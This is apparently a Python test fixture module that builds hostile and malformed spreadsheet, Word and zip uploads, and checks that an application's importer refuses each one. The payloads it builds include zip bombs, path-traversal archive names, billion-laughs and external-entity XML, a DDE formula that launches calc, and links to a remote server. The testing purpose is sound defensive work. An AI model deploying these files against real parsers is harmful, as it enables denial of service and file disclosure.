"""Files that strangers may send, each made to do harm or simply the wrong one; built here, so that none lies about.

Every trick is a file with a name, and says how it must end: refused in words that occur in the sentence, or read.
"""

import io
import re
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from openpyxl import Workbook

from capacity_app.i18n.translator import Translator
from capacity_app.services.reports import report_bytes
from tests.builders import small_dossier

# A line of the table below is one trick, however long.
# ruff: noqa: E501

Parts = dict[str, bytes]
SECRET = "the canary sings"  # noqa: S105 - it is no password
SERVER = "203.0.113.7"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
SHEET, STRINGS, BOOK, TYPES = (
    "xl/worksheets/sheet2.xml",
    "xl/sharedStrings.xml",
    "xl/workbook.xml",
    "[Content_Types].xml",
)
DOCUMENT = "word/document.xml"


@dataclass(frozen=True, slots=True)
class Trick:
    """One file. ``words`` occur in the sentence of its refusal, or, if it ``is_read``, in one of its problems."""

    words: str
    make: Callable[[], bytes]
    file: str = "given.xlsx"
    is_read: bool = False


# -- honest files --------------------------------------------------------------------------------------------------


@cache
def _report(ending: str) -> bytes:
    return report_bytes(small_dossier(), ending, texts=Translator("en"))


def unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def workbook() -> dict[str, bytes]:
    return unpacked(_report(".xlsx"))


def word() -> dict[str, bytes]:
    return unpacked(_report(".docx"))


def packed(
    parts: Parts | Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED, comment: bytes = b""
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in parts.items() if isinstance(parts, Mapping) else parts:
            # The name as it is: ZipInfo would mend it.
            entry = zipfile.ZipInfo("x")
            entry.filename, entry.compress_type = name, method
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # two parts of one name are the trick
                archive.writestr(entry, data)
        archive.comment = comment
    return buffer.getvalue()


def changed(part: str, old: bytes, new: bytes, base: Callable[[], dict[str, bytes]] = workbook) -> Callable[[], bytes]:
    """Change one part of an honest file."""

    def make() -> bytes:
        parts = base()
        assert old in parts[part], (part, old)
        return packed(parts | {part: parts[part].replace(old, new, 1)})

    return make


def added(parts: Parts, base: Callable[[], dict[str, bytes]] = workbook) -> Callable[[], bytes]:
    return lambda: packed(base() | parts)


def related(rels: str, kind: str, target: str, *, is_outside: bool = False, base: Callable[[], dict[str, bytes]] = workbook,
            parts: Parts | None = None) -> Callable[[], bytes]:  # fmt: skip
    """Relate a part of an honest file to something."""
    mode = ' TargetMode="External"' if is_outside else ""
    line = f'<Relationship Id="rId999" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return lambda: packed(unpacked(changed(rels, b"</Relationships>", line.encode(), base)()) | (parts or {}))


def sheet(cells: str, *, head: str = "", tail: str = "", prefix: str = "") -> bytes:
    rows = f"<{prefix}sheetData>{cells}</{prefix}sheetData>"
    name = f'xmlns:{prefix[:-1]}="{_MAIN}"' if prefix else f'xmlns="{_MAIN}"'
    return f'<?xml version="1.0" encoding="UTF-8"?><{prefix}worksheet {name}>{head}{rows}{tail}</{prefix}worksheet>'.encode()


def with_sheet(cells: str, **more: str) -> Callable[[], bytes]:
    return lambda: packed(workbook() | {SHEET: sheet(cells, **more)})


# -- archives ------------------------------------------------------------------------------------------------------


def _local(name: bytes, data: bytes, size: int, checksum: int) -> bytes:
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, checksum, len(data), size, len(name), 0) + name


def _central(name: bytes, data: bytes, size: int, checksum: int, offset: int) -> bytes:
    head = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, checksum, len(data), size, len(name),
                       0, 0, 0, 0, 0, offset)  # fmt: skip
    return head + name


def _ended(body: bytes, directory: list[bytes]) -> bytes:
    whole = b"".join(directory)
    return (
        body
        + whole
        + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(directory), len(directory), len(whole), len(body), 0)
    )


def _deflated(data: bytes) -> bytes:
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packing.compress(data) + packing.flush()


def lying() -> bytes:
    """A sheet that says it is a hundred bytes long, with their checksum, and unpacks to fifty million."""
    parts = workbook()
    body, directory = b"", []
    for name, part in parts.items():
        data = b" " * 50_000_000 if name == SHEET else part
        stream, said = _deflated(data), data[:100] if name == SHEET else data
        shape = (name.encode(), stream, len(said), zlib.crc32(said))
        directory.append(_central(*shape, len(body)))
        body += _local(*shape) + stream
    return _ended(body, directory)


def overlapping() -> bytes:
    """A part in whose packed bytes another one lies, as in the bomb by Fifield: unpacked, both are large."""
    inner = _deflated(b"0" * 1_000)
    inner_head = _local(b"b.xml", inner, 1_000, zlib.crc32(b"0" * 1_000))
    # A stored block of DEFLATE holds the head of the inner part; then the same bytes go on for both.
    quoted = struct.pack("<BHH", 0, len(inner_head), len(inner_head) ^ 0xFFFF) + inner_head
    stream, text = quoted + inner, inner_head + b"0" * 1_000
    name = b"xl/workbook.xml"
    body = _local(name, stream, len(text), zlib.crc32(text)) + stream
    inner_at = len(_local(name, stream, 0, 0)) + 5
    return _ended(body, [_central(name, stream, len(text), zlib.crc32(text), 0),
                         _central(b"b.xml", inner, 1_000, zlib.crc32(b"0" * 1_000), inner_at)])  # fmt: skip


def locked() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(BOOK, "x")
        archive.filelist[0].flag_bits |= 1
    return buffer.getvalue()


def flipped() -> bytes:
    """An honest file one bit of which a bad stick has turned over."""
    content = bytearray(packed(workbook(), zipfile.ZIP_STORED))
    content[content.index(b"<sheetData") + 100] ^= 4
    return bytes(content)


def two_directories() -> bytes:
    """An archive whose comment is the directory of another: programs that look for the last or the first one differ."""
    return packed(workbook(), comment=packed({BOOK: b"<other/>"})[-80:])


def one_behind_the_other() -> bytes:
    return packed({BOOK: b"<first/>"}) + packed(workbook())


def many(count: int) -> Callable[[], bytes]:
    return lambda: packed(workbook() | {f"xl/media/{number}.png": b"" for number in range(count)})


def large() -> bytes:
    """Thirty parts, none of which is striking by itself."""
    return packed(workbook() | {f"xl/worksheets/more{number}.xml": b" " * 3_900_000 for number in range(30)})


# -- XML -----------------------------------------------------------------------------------------------------------

_LAUGHS = "".join(
    f'<!ENTITY e{n} "{"&e" + str(n - 1) + ";" if n else "ha"}{"&e" + str(n - 1) + ";" if n else "x"}">'
    for n in range(30)
)
BOMB = f"<!DOCTYPE x [{_LAUGHS}]>".encode()


def declaring(
    part: str, declaration: bytes = BOMB, base: Callable[[], dict[str, bytes]] = workbook
) -> Callable[[], bytes]:
    """Put a declaration before the first element of a part."""

    def make() -> bytes:
        parts = base()
        head, end, rest = parts[part].partition(b"?>")
        assert end
        return packed(parts | {part: head + end + declaration + rest})

    return make


def written_in(encoding: str, part: str = STRINGS, declaration: bytes = b"", mark: bytes = b"") -> Callable[[], bytes]:
    def make() -> bytes:
        parts = workbook()
        text = parts[part].partition(b"?>")[2].decode()
        whole = f'<?xml version="1.0" encoding="{encoding}"?>{declaration.decode()}{text}'
        return packed(parts | {part: mark + whole.encode(encoding, "xmlcharrefreplace")})

    return make


def external_entity(canary: Path) -> Callable[[], bytes]:
    declared = f'<!DOCTYPE x [<!ENTITY canary SYSTEM "{canary.as_uri()}">]>'
    return lambda: packed(word() | {DOCUMENT: f"{declared}<w:document xmlns:w='{_W}'>&canary;</w:document>".encode()})


def announcing(count: bytes) -> Callable[[], bytes]:
    def make() -> bytes:
        parts = workbook()
        texts = re.sub(rb'uniqueCount="[0-9]+"', b'uniqueCount="' + count + b'"', parts[STRINGS])
        return packed(parts | {STRINGS: texts})

    return make


killer = announcing(b"40000000000")
"""A workbook that says how many texts it has: calamine asks for the memory, and ends the process when it gets none."""


def deep(levels: int) -> bytes:
    return sheet(f'<row r="1"><c r="A1" t="inlineStr"><is>{"<r>" * levels}{"</r>" * levels}</is></c></row>')


def deep_word(levels: int) -> bytes:
    inside = "<w:smartTag>" * levels + "</w:smartTag>" * levels
    return f"<w:document xmlns:w='{_W}'><w:body><w:p>{inside}</w:p></w:body></w:document>".encode()


def utf_16(data: bytes) -> bytes:
    return data.decode().replace("UTF-8", "UTF-16").encode("utf-16")


# -- sheets --------------------------------------------------------------------------------------------------------

_TWO = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def spread(sheets: int) -> bytes:
    """Sheets none of which reaches far, all together over more cells than anybody has."""
    cells = sheet('<row r="150000"><c r="Z150000"><v>1</v></c></row>')
    return packed(workbook() | {f"xl/worksheets/more{number}.xml": cells for number in range(sheets)})


def sheets(count: int) -> bytes:
    lines = "".join(f'<sheet name="s{n}" sheetId="{n + 100}" r:id="rId1"/>' for n in range(count))
    return changed(BOOK, b"</sheets>", f"{lines}</sheets>".encode())()


def foreign() -> bytes:
    book, buffer = Workbook(), io.BytesIO()
    book.create_sheet("Budget").append(["A", "budget"])
    book.save(buffer)
    return buffer.getvalue()


def formulas() -> bytes:
    cells = (f'<row r="9"><c r="A9" t="str"><f>{text}</f><v></v></c></row>' for text in
             ("cmd|'/c calc'!A0", f'WEBSERVICE("http://{SERVER}/")', "[1]Sheet1!A1"))  # fmt: skip
    return changed(SHEET, b"</sheetData>", "".join(cells).encode() + b"</sheetData>")()


# -- all of them ---------------------------------------------------------------------------------------------------

_BOOK_RELS, _WORD_RELS = "xl/_rels/workbook.xml.rels", "word/_rels/document.xml.rels"
_BINARY = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_TYPE = b"</Types>"


def tricks(canary: Path) -> dict[str, Trick]:
    """Return every trick by its name; ``canary`` is a file some of them want to have read."""
    html = b"<html><table><tr><td>IV.1</td><td>2</td></tr></table></html>"
    return {
        # Not what it should be
        "nothing at all": Trick("is empty", lambda: b""),
        "a letter": Trick("is not a workbook", lambda: b"Dear all,\nplease find attached the form."),
        "noise": Trick("is not a workbook", lambda: bytes(range(256)) * 99),
        "a picture": Trick("is not a workbook", lambda: b"\x89PNG\r\n\x1a\n" + bytes(999)),
        "a table with commas": Trick("plain text (CSV)", lambda: b"question,answer\ni.law,3\ni.plan,2\n"),
        "a table with tabs named csv": Trick("plain text (CSV)", lambda: b"i.law\t3\n", file="given.csv"),
        "a web page named xls": Trick("(HTML)", lambda: html, file="given.xls"),
        "a sheet of 2003": Trick("XML 2003", lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'),
        "an old xls renamed": Trick("old Excel file", lambda: _OLE + "Workbook".encode("utf-16-le")),
        "an old doc renamed": Trick("old Word file", lambda: _OLE + "WordDocument".encode("utf-16-le"), file="given.docx"),
        "an xlsx with a password": Trick("password", lambda: _OLE + "EncryptedPackage".encode("utf-16-le")),
        "an archive with a password": Trick("password", locked),
        "a pdf": Trick("is a PDF", lambda: b"%PDF-1.7\n", file="given.pdf"),
        "an ods": Trick("(.ods)", lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}), file="given.ods"),
        "an odt": Trick("(.odt)", lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.text"}), file="given.odt"),
        "an xlsb": Trick("(.xlsb)", lambda: packed({"xl/workbook.bin": b"\x83\x01\x00"}), file="given.xlsb"),
        "a file of Numbers": Trick("(.numbers)", lambda: packed({"Index/Document.iwa": b"\0"})),
        "a workbook in an archive": Trick("unpack it", lambda: packed({"form/NSO.xlsx": _report(".xlsx")}), file="given.zip"),
        "an archive of letters": Trick("is not a workbook", lambda: packed({"letter.txt": b"Dear all"})),
        "an empty archive": Trick("is not a workbook", lambda: packed({})),
        "what Excel keeps beside a file": Trick("keeps beside one", lambda: b"\x05Petro" + bytes(159), file="~$given.xlsx"),
        "a workbook of somebody else": Trick("not made by this program", foreign),
        "a Word file of somebody else": Trick("not made by this program", lambda: packed({DOCUMENT: f"<w:document xmlns:w='{_W}'><w:body/></w:document>".encode()}), file="given.docx"),
        # Damaged
        "cut off in the middle": Trick("damaged", lambda: _report(".xlsx")[:20_000]),
        "its end cut off": Trick("damaged", lambda: _report(".xlsx")[:-30]),
        "a bit turned over": Trick("damaged", flipped),
        "a sheet whose XML breaks off": Trick("damaged", changed(STRINGS, b"</sst>", b"<si><t>")),
        "a list of sheets that breaks off": Trick("damaged", changed(BOOK, b"</workbook>", b"")),
        "a sheet that is not there": Trick("damaged", lambda: packed({name: part for name, part in workbook().items() if name != SHEET})),
        # Archives made by hand
        "a bomb in one part": Trick("enormous size", added({SHEET: b" " * 30_000_000})),
        "a bomb in thirty parts": Trick("would unpack", large),
        "a bomb that says it is small": Trick("enormous size", lying),
        "a bomb within an archive within": Trick("holds other files", added({"xl/embeddings/b.zip": packed({"b": b"0" * 10_000_000})}), is_read=True),
        "parts that overlap": Trick("overlap", overlapping),
        "two parts of one name": Trick("two parts with the same name", lambda: packed([*workbook().items(), (SHEET, b"<x/>")])),
        "two parts that differ in capitals": Trick("two parts with the same name", added({"XL/Worksheets/Sheet2.xml": b"<x/>"})),
        "two parts that differ in strokes": Trick("two parts with the same name", added({"xl\\worksheets\\sheet2.xml": b"<x/>"})),
        "a name from the root": Trick("leads outside", added({"/etc/cron.d/x": b"x"})),
        "a name that climbs out": Trick("leads outside", added({"xl/../../../x": b"x"})),
        "a name on a drive": Trick("leads outside", added({"C:\\Windows\\x.dll": b"x"})),
        "a name with a line break": Trick("leads outside", added({"xl/a\nb.xml": b"<x/>"})),
        "two tables of contents": Trick("damaged", two_directories),
        "two archives in one file": Trick("damaged", one_behind_the_other),
        "five thousand parts": Trick("consists of", many(5_000)),
        "packed in another way": Trick("no Office program", lambda: packed(workbook(), zipfile.ZIP_LZMA)),
        # XML
        "laughs in the texts": Trick("abbreviations", declaring(STRINGS)),
        "laughs in the sheets' list": Trick("abbreviations", declaring(BOOK)),
        "laughs in the content types": Trick("abbreviations", declaring(TYPES)),
        "laughs in the relations": Trick("abbreviations", declaring(_BOOK_RELS)),
        "laughs in the properties of a Word file": Trick("abbreviations", declaring("docProps/custom.xml", base=word), file="given.docx"),
        "laughs in a Word file": Trick("abbreviations", declaring(DOCUMENT, base=word), file="given.docx"),
        "laughs behind a thousand comments": Trick("abbreviations", declaring(STRINGS, b"<!-- -->" * 1_000 + BOMB)),
        "laughs in two bytes a letter": Trick("abbreviations", written_in("utf-16", declaration=BOMB)),
        "laughs in small letters": Trick("abbreviations", declaring(STRINGS, BOMB.replace(b"DOCTYPE", b"doctype"))),
        "an entity that reads a file": Trick("abbreviations", external_entity(canary), file="given.docx"),
        "a list of types from a server": Trick("abbreviations", declaring(STRINGS, f'<!DOCTYPE sst SYSTEM "http://{SERVER}/x.dtd">'.encode())),
        "texts in UTF-7": Trick("no Office program", written_in("utf-7")),
        "texts in the letters of mainframes": Trick("no Office program", written_in("cp037")),
        "texts in four bytes a letter": Trick("no Office program", written_in("utf-32")),
        "a count of texts that kills calamine": Trick("announces 40000000000 texts", killer),
        "a count of texts in signs for letters": Trick("announces", announcing(b"4&#48;000000000")),
        "a count of texts that is none": Trick("announces", announcing(b"18446744073709551616")),
        "five million texts that pack well": Trick("enormous size", lambda: packed(workbook() | {STRINGS: _many_texts(noise=0)})),
        "five million texts": Trick("million entries", lambda: packed(workbook() | {STRINGS: _many_texts(noise=60_000)})),
        "a hundred thousand levels in a sheet": Trick("", lambda: packed(workbook() | {"xl/worksheets/more.xml": deep(100_000)}), is_read=True),
        "a hundred thousand levels in a Word file": Trick("damaged", lambda: packed(word() | {DOCUMENT: deep_word(100_000)}), file="given.docx"),
        # Programs, objects, links
        "macros": Trick("macros", added({"xl/vbaProject.bin": _OLE}), file="given.xlsm"),
        "macros under another name": Trick("macros", related(_BOOK_RELS, _BINARY, "picture.bin", parts={"xl/picture.bin": _OLE})),
        "macros by their type": Trick("macros", changed(TYPES, _TYPE, b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')),
        "a macro hidden in letters": Trick("macros", changed(TYPES, _TYPE, b'<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>')),
        "macros of the nineties": Trick("macros", added({"xl/macrosheets/sheet1.xml": b"<x/>"})),
        "macros in a Word file": Trick("macros", added({"word/vbaProject.bin": _OLE}, word), file="given.docm"),
        "an embedded object": Trick("objects of other programs", added({"xl/embeddings/oleObject1.bin": _OLE})),
        "a button with a program": Trick("objects of other programs", added({"xl/activeX/activeX1.xml": b"<x/>"})),
        "an object within the text": Trick("objects of other programs", changed(DOCUMENT, b"</w:body>", b"<w:p><w:object><OLEObject/></w:object></w:p></w:body>", word), file="given.docx"),
        "a link to another workbook": Trick("refers to other files", related(_BOOK_RELS, f"{_RELS}/externalLinkPath", f"file:///{canary}", is_outside=True), is_read=True),
        "a template from a server": Trick("refers to other files", related(_WORD_RELS, f"{_RELS}/attachedTemplate", f"http://{SERVER}/x.dotm", is_outside=True, base=word), file="given.docx", is_read=True),
        "a picture from a server": Trick("refers to other files", related(_WORD_RELS, f"{_RELS}/image", f"http://{SERVER}/x.png", is_outside=True, base=word), file="given.docx", is_read=True),
        "a query of a database": Trick("refers to other files", related(_BOOK_RELS, f"{_RELS}/connections", "connections.xml", parts={"xl/connections.xml": b"<connections/>"}), is_read=True),
        "a document within a document": Trick("holds other files", related(_WORD_RELS, f"{_RELS}/aFChunk", "chunk.html", base=word, parts={"word/chunk.html": b"<html/>"}), file="given.docx", is_read=True),
        "formulas that start programs": Trick("", formulas, is_read=True),
        # Sheets
        "a million rows from two cells": Trick("reaches as far as cell XFD1048576", with_sheet(_TWO)),
        "a million rows that are only said": Trick("reaches as far", with_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', head='<dimension ref="A1:XFD1048576"/>')),
        "a million rows under a prefix": Trick("reaches as far", with_sheet(_TWO.replace("<row", "<y:row").replace("</row", "</y:row").replace("<c", "<y:c").replace("</c", "</y:c").replace("<v", "<y:v").replace("</v", "</y:v"), prefix="y:")),
        "a million rows without addresses": Trick("reaches as far", with_sheet('<row r="1048576"><c><v>1</v></c></row>')),
        "a million rows in signs for letters": Trick("reaches as far", with_sheet('<row r="1"><c r="&#88;FD1048576"><v>1</v></c></row>')),
        "a million rows in small letters": Trick("reaches as far", with_sheet('<row r="1"><c r="xfd1048576"><v>1</v></c></row>')),
        "a million rows in single quotes": Trick("reaches as far", with_sheet("<row r='1'><c s='1' r='XFD1048576'><v>1</v></c></row>")),
        "a million rows in two bytes a letter": Trick("reaches as far", lambda: packed(workbook() | {SHEET: utf_16(sheet(_TWO))})),
        "an address that is none": Trick("no Office program", with_sheet('<row r="1"><c r="ABCDEFGHIJ1"><v>1</v></c></row>')),
        "a row that spans everything": Trick("", changed(SHEET, b"<row ", b'<row spans="1:16384" '), is_read=True),
        "everything merged": Trick("cells are merged", changed(SHEET, b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
        "ten sheets that reach far": Trick("sheets that reach over", lambda: spread(10)),
        "a thousand sheets": Trick("more than 250 sheets", lambda: sheets(1_000)),
    }  # fmt: skip


def _many_texts(noise: int) -> bytes:
    """Return five million texts; with noise among them they pack badly enough not to be struck by that."""
    mixed = b"".join(struct.pack("<I", zlib.crc32(struct.pack("<I", number))) for number in range(noise))
    return f'<sst xmlns="{_MAIN}"><!--{mixed.hex()}-->'.encode() + b"<si/>" * 5_000_000 + b"</sst>"
